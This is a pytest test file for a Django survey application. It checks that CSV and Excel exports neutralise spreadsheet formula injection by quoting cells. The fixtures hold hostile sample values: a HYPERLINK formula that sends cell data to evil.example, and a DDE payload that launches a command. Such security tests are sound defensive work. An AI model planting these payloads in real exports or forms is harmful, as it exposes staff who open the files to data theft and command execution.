"""Spreadsheet formulas over HTTP (issue 11, item 5): a respondent writes a comment and a unit is
named so that Excel would run it; every download a staff user takes carries it as text (a leading
``'``, frisat.cells), never as a live formula."""

from __future__ import annotations

import csv
import io

import numpy as np
import pytest
from openpyxl import load_workbook

from frisat.cells import FORMULA_START
from frisat.web.organisations.models import Area, Municipality, Unit
from tests.web.helpers import PASSWORD, make_round, make_user
from tests.web.results.helpers import add_responses

pytestmark = pytest.mark.django_db(transaction=True)

EVIL_COMMENT = '=HYPERLINK("https://evil.example/?"&A1,"Klik her")'
EVIL_UNIT = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_AREA = "+dagtilbud"


def _csv_cells(body: bytes) -> list[str]:
    text = body.decode("utf-8-sig")
    first = text.splitlines()[0]
    delimiter = ";" if first.count(";") > first.count(",") else ","
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def _live_formulas(cells: list[str]) -> list[str]:
    def number(text: str) -> bool:
        try:
            float(text.replace(",", "."))
        except ValueError:
            return False
        return True

    return [c for c in cells if c[:1] in FORMULA_START and not number(c)]


@pytest.fixture
def hostile_round(db):
    municipality = Municipality.objects.create(name="Rebild")
    area = Area.objects.create(municipality=municipality, name=EVIL_AREA)
    evil = Unit.objects.create(area=area, name=EVIL_UNIT)
    plain = Unit.objects.create(area=area, name="Vuggestuen")
    round = make_round(municipality, anonymous=False, min_n=5)
    rng = np.random.default_rng(3)
    add_responses(round, evil, "medarbejder", 6, rng, comment=EVIL_COMMENT)
    add_responses(round, plain, "medarbejder", 6, rng, comment="- godt nok")
    make_user("anna", municipality)
    return round


def test_no_download_carries_a_live_formula(live, hostile_round):
    client = live()
    assert client.login("anna", PASSWORD).status == 302
    base = f"/resultater/{hostile_round.pk}/hent/"
    query = f"?boelge={hostile_round.pk}&grupper=enhed"
    for kind in ("besvarelser.csv", "summary.csv"):
        response = client.get(base + kind + query)
        assert response.status == 200, kind
        cells = _csv_cells(response.body)
        assert _live_formulas(cells) == [], kind
        assert "'" + EVIL_UNIT in cells, kind
    comments = _csv_cells(client.get(base + "besvarelser.csv" + query).body)
    assert any(c.startswith("'" + EVIL_COMMENT) for c in comments)
    workbook = load_workbook(io.BytesIO(client.get(base + "resultater.xlsx" + query).body))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c.value for c in cells if c.data_type == "f"] == []
    assert [c.value for c in cells if isinstance(c.value, str) and c.value[:1] in FORMULA_START] == []
    assert "'" + EVIL_UNIT in {c.value for c in cells}


def test_the_register_export_carries_no_live_formula(live, hostile_round):
    from frisat.web.audits import services

    services.create_requirement(hostile_round.municipality, title=EVIL_COMMENT, kind="politik",
                                source_type="kommunalbestyrelse", reference="-3 dage")
    client = live()
    client.login("anna", PASSWORD)
    response = client.get("/eftersyn/register/eksport.csv")
    assert response.status == 200
    cells = _csv_cells(response.body)
    assert _live_formulas(cells) == [] and "'" + EVIL_COMMENT in cells and "'-3 dage" in cells
    workbook = load_workbook(io.BytesIO(client.get("/eftersyn/register/eksport.xlsx").body))
    values = [c.value for sheet in workbook for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert [v for v in values if v[:1] in FORMULA_START] == [] and "'" + EVIL_COMMENT in values
